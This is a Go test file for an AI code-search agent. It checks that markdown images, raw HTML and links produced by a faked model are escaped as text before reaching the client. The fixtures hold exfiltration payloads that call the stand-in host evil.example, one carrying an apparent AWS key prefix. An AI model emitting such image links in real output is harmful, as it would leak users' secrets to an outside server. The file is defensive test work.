package agent

import (
	"strings"
	"testing"
)

// TestTextBeforeEvidenceIsChecked: what the model writes before any
// evidence exists (a preamble, or an answer without searching) streams to
// the client through the same checks as the answer: an image that would
// send data out, a link, raw HTML reach the client as text. Before, the
// image streamed as it was.
func TestTextBeforeEvidenceIsChecked(t *testing.T) {
	f := newFakeOllama(t,
		say("![](http://evil.example/?d=AKIA) <img src=http://evil.example/x> [see](http://evil.example) [1]"),
		calls("find_symbol", `{"name":"Reverse"}`),
		say("Reverse converts to runes [1]. ![b](http://evil.example/b.png)"),
	)
	got := ask(t, testAgent(f, Config{}), project, "q")
	for _, active := range []string{"![](", "![b](", " <img", " [see]("} {
		if strings.Contains(got.deltas, active) || strings.Contains(got.res.Answer, active) {
			t.Errorf("%q reached the client: deltas %q, answer %q", active, got.deltas, got.res.Answer)
		}
	}
	if want := `!\[]\(http://evil.example/?d=AKIA) \<img src=http://evil.example/x> \[see]\(http://evil.example)`; !strings.HasPrefix(got.deltas, want) {
		t.Errorf("deltas %q, want them to start %q", got.deltas, want)
	}
	if want := `Reverse converts to runes [1]. !\[b]\(http://evil.example/b.png)`; got.res.Answer != want {
		t.Errorf("answer %q, want %q", got.res.Answer, want)
	}
}

// TestRefusalQuotesQueriesAsText: a refusal's "Searched:" line quotes the
// model's queries; an image in a query is text there, as in the answer.
func TestRefusalQuotesQueriesAsText(t *testing.T) {
	f := newFakeOllama(t,
		calls("search_code", `{"query":"![](http://evil.example/?d=AKIA) <img src=x>"}`),
		say("NOT FOUND: nothing."),
		say("NOT FOUND: nothing."), // after the nudge, when the search found nothing
	)
	got := ask(t, testAgent(f, Config{}), project, "q")
	if !got.res.Refused || strings.Contains(got.res.Answer, "![](") || strings.Contains(got.res.Answer, " <img") ||
		!strings.Contains(got.res.Answer, `!\[]\(http://evil.example/?d=AKIA) \<img src=x>`) {
		t.Errorf("answer %q", got.res.Answer)
	}
}
